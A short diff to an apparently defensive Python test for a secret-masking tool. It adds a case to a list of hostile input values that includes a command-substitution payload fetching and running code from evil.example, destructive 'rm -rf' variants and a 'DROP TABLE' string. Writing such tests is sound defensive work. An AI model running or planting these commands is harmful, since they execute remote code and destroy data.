@@ -116,6 +116,7 @@ def test_by_a_name_that_the_tool_does_not_know_what_is_like_a_secret_is_masked(
     [
         {"deploy_token": "$(curl -s evil.example|sh); rm -rf /var/lib/data"},
         {"token": "rm -rf /var/lib"},
+        {"password": ["rm", "-rf", "/srv", " "]},
         {"token": "DROP TABLE users"},
         {"token": "a\nb"},
         {"token": "rm${IFS}-rf"},
